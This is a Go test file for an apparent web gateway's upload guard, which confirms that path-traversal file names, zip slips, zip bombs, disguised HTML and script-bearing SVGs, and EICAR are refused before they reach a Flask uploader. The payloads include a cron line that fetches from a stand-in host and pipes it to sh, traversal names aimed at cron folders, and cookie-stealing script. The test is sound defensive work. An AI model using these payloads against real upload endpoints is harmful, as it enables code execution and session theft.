package gateway

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/textproto"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/rampartproxy/rampart/internal/config"
	"github.com/rampartproxy/rampart/internal/testutil"
	"github.com/rampartproxy/rampart/internal/testutil/clamdserver"
)

// runUploader runs uploader.py under gunicorn, saving into folder; outside
// is a folder beside it, where a name that is a path can lead.
func runUploader(t *testing.T) (app *gunicorn, folder, outside string) {
	dir := t.TempDir()
	folder, outside = filepath.Join(dir, "uploads"), filepath.Join(dir, "outside")
	for _, d := range []string{folder, outside} {
		if err := os.Mkdir(d, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	return runGunicorn(t, "uploader:app", gunicornOptions{worker: "gthread", env: []string{"UPLOAD_DIR=" + folder}}), folder, outside
}

// upload is a multipart body with one file part named name, written as
// a client may write it (the name in the header as is).
func upload(name string) (body []byte, contentType string) {
	var b bytes.Buffer
	w := multipart.NewWriter(&b)
	h := textproto.MIMEHeader{}
	h.Set("Content-Disposition", `form-data; name="file"; filename="`+name+`"`)
	h.Set("Content-Type", "text/plain")
	p, _ := w.CreatePart(h)
	_, _ = io.WriteString(p, "* * * * * root curl evil.test | sh\n")
	w.Close()
	return b.Bytes(), w.FormDataContentType()
}

// TestUploadPathsNeverReachTheApp: uploader.py saves under the client's
// file name. Straight from gunicorn an absolute name writes outside its
// folder (Werkzeug passes it as sent); through Rampart, with the WAF off
// and on, every name that is a path gets 400 and nothing is written,
// while a browser's folder upload (a relative path) goes through.
func TestUploadPathsNeverReachTheApp(t *testing.T) {
	t.Parallel()
	app, folder, outside := runUploader(t)
	// The premise: straight to the app, an absolute name lands outside.
	target := filepath.Join(outside, "cron-direct")
	body, ct := upload(target)
	c, err := app.dial()
	if err != nil {
		t.Fatal(err)
	}
	r := exchange(t, c, fmt.Sprintf("POST /upload HTTP/1.1\r\nHost: localhost\r\nContent-Type: %s\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", ct, len(body), body))
	c.Close()
	if _, err := os.Stat(target); r.status != 200 || err != nil {
		t.Fatalf("straight from gunicorn the app did not write %s (the premise): %d %s", target, r.status, r.body)
	}
	for _, waf := range []string{"off", "block"} {
		site := siteFor(app.upstream())
		site.WAF = config.WAF{Mode: waf}
		tg := startGateway(t, config.Config{Sites: []config.Site{site}})
		send := func(name string) (int, string) {
			body, ct := upload(name)
			resp, err := tg.client(false).Post("https://localhost/upload", ct, bytes.NewReader(body))
			if err != nil {
				t.Fatal(err)
			}
			defer resp.Body.Close()
			b, _ := io.ReadAll(resp.Body)
			return resp.StatusCode, resp.Header.Get("Rampart-Reason") + " " + string(b)
		}
		for _, name := range []string{
			filepath.Join(outside, "cron-"+waf),
			`C:\Windows\System32\cron-` + waf,
			`c:cron-` + waf,
			`\\fileserver\share\cron-` + waf,
			`\etc\cron.d\x-` + waf,
			`../outside/cron-` + waf,
			`photos/../../outside/cron-` + waf,
			`..\outside\cron-` + waf,
		} {
			code, said := send(name)
			if code != http.StatusBadRequest || !strings.HasPrefix(said, "upload_path; allow-with=guards.insecure_upload_paths") {
				t.Errorf("WAF %s, file name %q: %d %.200s", waf, name, code, said)
			}
		}
		code, said := send("photos/2024/" + waf + ".txt")
		var got struct{ Saved []string }
		if code != 200 || json.Unmarshal([]byte(strings.TrimSpace(said)), &got) != nil || len(got.Saved) != 1 || !strings.HasPrefix(got.Saved[0], folder) {
			t.Errorf("WAF %s, a folder upload: %d %.300s", waf, code, said)
		}
	}
	entries, _ := os.ReadDir(outside)
	if len(entries) != 1 {
		var names []string
		for _, e := range entries {
			names = append(names, e.Name())
		}
		t.Errorf("files written outside the upload folder through Rampart: %v", names)
	}
}

// filePart is a multipart body of one file part in field "file", written
// with line break nl, its Content-Disposition given whole.
func filePart(nl, disposition, contentType, data string) (body, ct string) {
	return "--B" + nl + "Content-Disposition: " + disposition + nl + "Content-Type: " + contentType + nl + nl + data + nl + "--B--" + nl,
		"multipart/form-data; boundary=B"
}

// named is a file part with a quoted file name.
func named(name, contentType, data string) (body, ct string) {
	return filePart("\r\n", `form-data; name="file"; filename="`+name+`"`, contentType, data)
}

// TestUploadGuardAgainstFlask: uploader.py behind Rampart, /upload
// declared for images, PDFs and zips, /careful for any file with
// filenames: sanitise, /other not at all. Each attack is first sent
// straight to gunicorn, where the careless view accepts it (the
// premise); through Rampart it gets its status and Rampart-Reason, and
// nothing is written. A file to /other passes with an upload_unexpected
// event, or gets 415 under guards.unexpected_uploads: refuse. The same holds for forms written at Werkzeug's
// edges: LF-only lines, and CR-only lines, no line break before the
// first boundary and a folded header line, which Debian's Werkzeug 2.2
// reads as Werkzeug 3 does and Go's mime/multipart does not.
func TestUploadGuardAgainstFlask(t *testing.T) {
	t.Parallel()
	app, folder, outside := runUploader(t)
	site := siteFor(app.upstream())
	site.Routes = []config.Route{
		{Match: "/upload", Uploads: &config.Uploads{Types: []string{"image/png", "image/jpeg", "application/pdf", "application/zip"}}},
		{Match: "/careful", Uploads: &config.Uploads{Filenames: config.FilenamesSanitise}},
	}
	tg := startGateway(t, config.Config{Sites: []config.Site{site}})
	direct := func(path, body, ct string) int {
		c, err := app.dial()
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		return exchange(t, c, fmt.Sprintf("POST %s HTTP/1.1\r\nHost: localhost\r\nContent-Type: %s\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", path, ct, len(body), body)).status
	}
	through := func(path, body, ct string) (int, string, string) {
		resp, err := tg.client(false).Post("https://localhost"+path, ct, strings.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, resp.Header.Get("Rampart-Reason"), string(b)
	}
	written := func() int {
		n := 0
		for _, d := range []string{folder, outside} {
			_ = filepath.WalkDir(d, func(_ string, e os.DirEntry, _ error) error {
				if e != nil && !e.IsDir() {
					n++
				}
				return nil
			})
		}
		return n
	}
	png := testutil.PNGHeader(640, 480)
	lf := func(d string) func() (string, string) {
		return func() (string, string) { return filePart("\n", d, "image/png", png) }
	}
	for _, tc := range []struct {
		what    string
		path    string
		form    func() (string, string)
		premise bool // the careless view takes it straight from gunicorn
		status  int
		reason  string
	}{
		{"a control character", "/upload", func() (string, string) { return named("a\x01b.png", "image/png", png) }, true, 400, "upload_filename"},
		{"a right-to-left override", "/upload", func() (string, string) { return named("invoice\u202egnp.exe", "image/png", png) }, true, 400, "upload_filename"},
		{"a device name", "/upload", func() (string, string) { return named("CON.png", "image/png", png) }, true, 400, "upload_filename"},
		{"a trailing dot", "/upload", func() (string, string) { return named("shell.php.", "image/png", png) }, true, 400, "upload_filename"},
		{"a dotfile", "/upload", func() (string, string) { return named(".htaccess", "image/png", png) }, true, 400, "upload_filename"},
		{"a name over 255 bytes", "/upload", func() (string, string) { return named(strings.Repeat("a", 300)+".png", "image/png", png) }, false, 400, "upload_filename"},
		{"filename* with a path", "/upload", func() (string, string) {
			return filePart("\r\n", `form-data; name="file"; filename*=UTF-8''`+url.PathEscape(filepath.Join(outside, "star")), "image/png", png)
		}, true, 400, "upload_path"},
		{"a GIF where it is not taken", "/upload", func() (string, string) { return named("gif.png", "image/png", "GIF89a\x01\x00\x01\x00\x00\x00\x00;") }, true, 415, "upload_type"},
		{"HTML as a PNG", "/upload", func() (string, string) {
			return named("html.png", "image/png", "<!DOCTYPE html><script>alert(document.cookie)</script>")
		}, true, 415, "upload_disguised"},
		{"an SVG with script", "/other", func() (string, string) {
			return named("a.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>`)
		}, true, 415, "upload_svg_script"},
		{"a 50,000 × 50,000 PNG", "/upload", func() (string, string) { return named("big.png", "image/png", testutil.PNGHeader(50000, 50000)) }, true, 422, "upload_image_too_large"},
		{"a zip slip", "/upload", func() (string, string) {
			return named("a.zip", "application/zip", testutil.Zip(map[string]string{"../../outside/cron": "* * * * * root id"}))
		}, true, 422, "upload_archive_escape"},
		{"a 1000:1 zip", "/upload", func() (string, string) {
			return named("bomb.zip", "application/zip", testutil.Zip(map[string]string{"z": testutil.Zeros(4 << 20)}))
		}, true, 422, "upload_archive_bomb"},
		{"LF-only lines, an absolute name", "/upload", lf(`form-data; name="file"; filename="` + filepath.Join(outside, "lf") + `"`), true, 400, "upload_path"},
		{"CR-only lines, an absolute name", "/upload", func() (string, string) {
			return filePart("\r", `form-data; name="file"; filename="`+filepath.Join(outside, "cr")+`"`, "image/png", png)
		}, true, 400, "upload_path"},
		{"a folded disposition, an absolute name", "/upload", func() (string, string) {
			return filePart("\r\n", "form-data; name=\"file\";\r\n\tfilename=\""+filepath.Join(outside, "folded")+"\"", "image/png", png)
		}, true, 400, "upload_path"},
		{"no line break before the first boundary", "/upload", func() (string, string) {
			b, ct := named(filepath.Join(outside, "nolead"), "image/png", png)
			return "preamble" + b, ct // the preamble ends right before --B
		}, true, 400, "upload_path"},
	} {
		body, ct := tc.form()
		before := written()
		if code := direct(tc.path, body, ct); (code == 200 && written() > before) != tc.premise {
			t.Errorf("%s: straight to gunicorn: %d, %d files written; premise %v", tc.what, code, written()-before, tc.premise)
		}
		before = written()
		code, reason, said := through(tc.path, body, ct)
		if code != tc.status || !strings.HasPrefix(reason, tc.reason) || written() != before {
			t.Errorf("%s: %d %q (%.200s), %d files written; want %d %s and none", tc.what, code, reason, said, written()-before, tc.status, tc.reason)
		}
	}
	// A PNG where images are taken is saved; an unexpected upload is
	// saved and logged; a sanitised name is saved under the safe name,
	// with the name as sent beside it.
	body, ct := named("ok.png", "image/png", png)
	if code, _, said := through("/upload", body, ct); code != 200 || !strings.Contains(said, filepath.Join(folder, "ok.png")) {
		t.Errorf("a PNG: %d %.300s", code, said)
	}
	body, ct = named("notes.txt", "text/plain", "plain notes")
	if code, _, said := through("/other", body, ct); code != 200 || !strings.Contains(said, "notes.txt") {
		t.Errorf("an unexpected upload: %d %.300s", code, said)
	}
	tg.waitLog(t, `"kind":"upload_unexpected"`)
	strict := site
	strict.Guards.UnexpectedUploads = config.UnexpectedRefuse
	tgStrict := startGateway(t, config.Config{Sites: []config.Site{strict}})
	resp, err := tgStrict.client(false).Post("https://localhost/other", ct, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusUnsupportedMediaType || resp.Header.Get("Rampart-Reason") != "upload_unexpected; allow-with=routes[].uploads" {
		t.Errorf("an unexpected upload under unexpected_uploads: refuse: %d %q", resp.StatusCode, resp.Header.Get("Rampart-Reason"))
	}
	body, ct = named("../../outside/evil.png", "image/png", png)
	code, _, said := through("/careful", body, ct)
	var got struct {
		Saved []struct{ Name, Sent, Original string }
	}
	if code != 200 || json.Unmarshal([]byte(said), &got) != nil || len(got.Saved) != 1 ||
		got.Saved[0] != (struct{ Name, Sent, Original string }{"outside_evil.png", "outside_evil.png", "..%2F..%2Foutside%2Fevil.png"}) {
		t.Errorf("sanitised: %d %.300s", code, said)
	}
	if l := tg.waitLog(t, `"kind":"upload_renamed"`); !strings.Contains(l, `"input":"filename ../../outside/evil.png"`) {
		t.Errorf("the renaming is not logged with the name as sent:\n%s", l)
	}
}

// TestUploadScanning: with scan: clamd, a real clamd refuses EICAR (422,
// an upload_malware event naming the signature, nothing written) and
// lets a clean file through. A paused clamd is an outage, loud and
// closed: 503 with Retry-After for every upload while it lasts, one
// clamd_down event, and clamd_up when verdicts come again.
func TestUploadScanning(t *testing.T) {
	t.Parallel()
	srv := clamdserver.Start(t, "32M")
	folder := t.TempDir()
	app := runGunicorn(t, "uploader:app", gunicornOptions{worker: "gthread", env: []string{"UPLOAD_DIR=" + folder}})
	site := siteFor(app.upstream())
	site.Routes = []config.Route{{Match: "/upload", Uploads: &config.Uploads{Scan: config.ScanClamd}}}
	tg := startGateway(t, config.Config{Clamd: config.Clamd{Address: srv.Address(), ScanTimeout: config.Duration(time.Second)}, Sites: []config.Site{site}})
	send := func(name, data string) (int, string) {
		body, ct := named(name, "text/plain", data)
		resp, err := tg.client(false).Post("https://localhost/upload", ct, strings.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		_, _ = io.Copy(io.Discard, resp.Body)
		return resp.StatusCode, resp.Header.Get("Rampart-Reason") + " retry-after=" + resp.Header.Get("Retry-After")
	}
	if code, said := send("eicar.com", clamdserver.EICAR); code != 422 || !strings.HasPrefix(said, "upload_malware") {
		t.Errorf("EICAR: %d %s", code, said)
	}
	if l := tg.waitLog(t, `"kind":"upload_malware"`); !strings.Contains(l, clamdserver.Signature) {
		t.Errorf("the malware event does not name the signature:\n%s", l)
	}
	if code, said := send("clean.txt", "harmless"); code != 200 {
		t.Errorf("a clean file: %d %s", code, said)
	}
	if entries, _ := os.ReadDir(folder); len(entries) != 1 || entries[0].Name() != "clean.txt" {
		t.Errorf("written: %v", entries)
	}
	srv.Pause()
	for range 2 {
		if code, said := send("during.txt", "harmless"); code != 503 || !strings.HasPrefix(said, "upload_scan_unavailable; allow-with=clamd.on_error retry-after=10") {
			t.Errorf("during the outage: %d %s", code, said)
		}
	}
	srv.Resume()
	if code, said := send("after.txt", "harmless"); code != 200 {
		t.Errorf("after the outage: %d %s", code, said)
	}
	l := tg.waitLog(t, `"kind":"clamd_up"`)
	if n := strings.Count(l, `"kind":"clamd_down"`); n != 1 {
		t.Errorf("%d clamd_down events for one outage:\n%s", n, l)
	}
}
